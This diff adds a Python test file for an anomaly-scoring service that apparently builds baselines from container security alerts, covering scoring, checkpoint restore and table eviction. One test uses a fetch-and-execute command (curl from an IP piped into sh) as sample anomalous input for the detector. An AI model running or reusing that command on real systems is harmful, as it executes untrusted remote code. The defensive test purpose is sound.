@@ -0,0 +1,117 @@
+#!/usr/bin/env python3
+"""
+Tests for the streaming behavior baselines
+Runs under pytest or directly: python test_behavior_baseline_service.py
+"""
+
+import os
+import sys
+import tempfile
+
+from behavior_baseline_service import PROFILE_MIN_ALERTS, BaselineTable, BehaviorBaselines
+
+
+def alert(cmdline='nginx -g daemon off;', process='nginx', rule='Unexpected outbound connection'):
+    return {
+        'rule': rule,
+        'priority': 'notice',
+        'output': f'Outbound connection (command={cmdline})',
+        'output_fields': {'container.name': 'web-1', 'proc.cmdline': cmdline, 'proc.name': process,
+                          'k8s.ns.name': 'shop', 'container.image.repository': 'nginx'}
+    }
+
+
+def make_baselines(tmp, path=''):
+    return BehaviorBaselines(db_path=os.path.join(tmp, 'alerts.db'), path=path, max_keys=64, checkpoint_seconds=3600)
+
+
+def test_observe_scores_before_recording():
+    with tempfile.TemporaryDirectory() as tmp:
+        baselines = make_baselines(tmp)
+        first = baselines.observe(alert())
+        assert first['anomaly_score'] == 5.0
+        assert 'No baseline yet for this workload' in first['reasons']
+        for _ in range(12):
+            baselines.observe(alert())
+        assert baselines.score(alert())['anomaly_score'] < first['anomaly_score']
+
+
+def test_score_is_read_only():
+    with tempfile.TemporaryDirectory() as tmp:
+        baselines = make_baselines(tmp)
+        baselines.observe(alert())
+        before = baselines.score(alert())
+        assert baselines.score(alert()) == before
+        assert baselines.get_stats()['counters']['observed'] == 1
+
+
+def test_new_command_line_and_process_raise_the_score():
+    with tempfile.TemporaryDirectory() as tmp:
+        baselines = make_baselines(tmp)
+        for _ in range(PROFILE_MIN_ALERTS + 5):
+            baselines.observe(alert())
+        usual = baselines.score(alert())
+        unusual = baselines.score(alert(cmdline='curl http://203.0.113.7/x | sh', process='curl'))
+        assert unusual['anomaly_score'] >= usual['anomaly_score'] + 1.5
+        assert any('Command line never seen' in reason for reason in unusual['reasons'])
+
+
+def test_failed_checkpoint_stays_pending_and_restores():
+    with tempfile.TemporaryDirectory() as tmp:
+        path = os.path.join(tmp, 'baselines.npz')
+        baselines = make_baselines(tmp, path=path)
+        for _ in range(5):
+            baselines.observe(alert())
+
+        baselines.path = os.path.join(tmp, 'missing', 'baselines.npz')
+        assert not baselines.checkpoint()
+        assert baselines._changes != baselines._checkpointed_changes
+
+        baselines.path = path
+        assert baselines.checkpoint()
+        assert baselines._changes == baselines._checkpointed_changes
+        expected = baselines.score(alert())
+
+        # Release the checkpoint lock so the next instance can take it
+        baselines._lock_file.close()
+        restored = make_baselines(tmp, path=path)
+        assert restored.get_stats()['workload_keys'] == 1
+        assert restored.score(alert())['baseline']['profile_alerts'] == expected['baseline']['profile_alerts']
+
+
+def test_full_table_reuses_the_least_recently_seen_row():
+    table = BaselineTable(max_keys=3, half_lives=(60.0, 3600.0))
+    rows = {}
+    for now, key in enumerate([('a', 'x'), ('b', 'x'), ('c', 'x')]):
+        rows[key] = table.row(key, create=True)
+        table.update(rows[key], float(now), None, None)
+    # Reading a key does not refresh it, seeing it again does
+    assert table.row(('a', 'x')) == rows[('a', 'x')] and table.row(('b', 'x')) == rows[('b', 'x')]
+    table.update(table.row(('a', 'x'), create=True), 3.0, None, None)
+
+    assert table.row(('d', 'x'), create=True) == rows[('b', 'x')]
+    assert table.row(('b', 'x')) is None and table.evicted == 1
+    assert table.alerts(rows[('b', 'x')]) == 0
+    assert table.row(('e', 'x'), create=True) == rows[('c', 'x')]
+    assert list(table.keys) == [('a', 'x'), ('d', 'x'), ('e', 'x')]
+
+    # A restored table keeps the order (by last seen)
+    restored = BaselineTable(max_keys=3, half_lives=(60.0, 3600.0))
+    table.update(table.row(('d', 'x')), 4.0, None, None)
+    table.update(table.row(('e', 'x')), 5.0, None, None)
+    restored.load_arrays('workload', table.to_arrays('workload'))
+    assert list(restored.keys) == [('a', 'x'), ('d', 'x'), ('e', 'x')]
+    assert restored.row(('f', 'x'), create=True) == rows[('a', 'x')]
+
+
+if __name__ == '__main__':
+    failures = 0
+    for name, test in sorted(globals().items()):
+        if name.startswith('test_') and callable(test):
+            try:
+                test()
+                print(f"✅ {name}")
+            except AssertionError as e:
+                failures += 1
+                print(f"❌ {name}: {e!r}")
+    sys.exit(1 if failures else 0)